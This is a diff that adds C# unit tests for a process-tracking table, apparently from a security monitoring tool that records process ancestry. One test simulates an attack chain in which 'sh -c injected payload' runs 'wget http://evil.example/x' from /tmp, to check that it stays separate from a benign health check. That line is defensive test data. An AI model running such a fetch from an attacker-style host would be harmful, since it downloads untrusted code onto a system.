@@ -64,6 +64,54 @@ public class ProcessTableTests
         Assert.Equal(0, table.Count);
         Assert.Equal(NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "worker"), table.NodeOf(99, "worker"));
     }
+
+    [Fact]
+    public void Two_processes_of_one_node_keep_their_own_arguments_pids_and_parents()
+    {
+        var table = new ProcessTable();
+        table.Apply(Exec(1, 1, "/bin/sh", "sh", "-c", "health-check loop") with { ProcessStartUs = 10 });
+        table.Apply(ExecChild(2, 20, 1, "/usr/bin/wget", "wget", "http://127.0.0.1/health") with { ProcessStartUs = 20 });
+        table.Apply(ExecChild(3, 30, 0, "/bin/sh", "sh", "-c", "injected payload") with { ProcessStartUs = 30, WorkingDirectory = "/tmp" });
+        table.Apply(ExecChild(4, 40, 30, "/usr/bin/wget", "wget", "http://evil.example/x") with { ProcessStartUs = 40 });
+
+        Assert.Equal(table.NodeOf(20, "wget"), table.NodeOf(40, "wget"));
+        var health = table.Ancestry(20, "wget");
+        var attack = table.Ancestry(40, "wget");
+        Assert.Equal(["sh -c health-check loop", "wget http://127.0.0.1/health"], health.Select(p => string.Join(' ', p.Args)));
+        Assert.Equal(["sh -c injected payload", "wget http://evil.example/x"], attack.Select(p => string.Join(' ', p.Args)));
+        Assert.Equal([(30, 30L), (40, 40L)], attack.Select(p => (p.Pid, p.StartUs)));
+        Assert.Equal("/tmp", table.ImageOf(30, "sh").WorkingDirectory);
+        Assert.Equal(table.NodeOf(40, "wget"), NodeIdentity.ProcessNodeOf(attack));
+    }
+
+    [Fact]
+    public void A_forked_child_runs_its_parents_image_until_it_execs_and_a_re_exec_updates_the_arguments()
+    {
+        var table = new ProcessTable();
+        table.Apply(Exec(1, 1, "/bin/sh", "sh", "-c", "loop") with { ProcessStartUs = 5 });
+        table.Apply(Fork(2, 1, 2));
+        Assert.Same(table.ImageOf(1, "sh"), table.ImageOf(2, "sh"));
+        Assert.Equal(1, table.NodeCount);
+
+        // The same program again (a /proc rescan, a restarting supervisor): same node, its new arguments shown.
+        table.Apply(Exec(3, 2, "/bin/sh", "sh", "-c", "other script"));
+        Assert.Equal(table.NodeOf(1, "sh"), table.NodeOf(2, "sh"));
+        Assert.Equal(["sh", "-c", "other script"], table.Ancestry(2, "sh")[^1].Args);
+        Assert.Equal(["sh", "-c", "loop"], table.Ancestry(1, "sh")[^1].Args);
+    }
+
+    [Fact]
+    public void An_image_outlives_its_process_while_a_descendant_runs()
+    {
+        var table = new ProcessTable();
+        table.Apply(Exec(1, 1, "/bin/sh", "sh", "-c", "spawn"));
+        table.Apply(ExecChild(2, 2, 1, "/usr/bin/python3", "python3", "worker.py"));
+        table.Apply(Exit(3, 1));
+
+        var restored = ProcessTable.Restore(table.Export());
+        Assert.Equal(["sh -c spawn", "python3 worker.py"], restored.Ancestry(2, "python3").Select(p => string.Join(' ', p.Args)));
+        Assert.Equal(1, restored.Count);
+    }
 }
 
 public class SnapshotBuilderTests
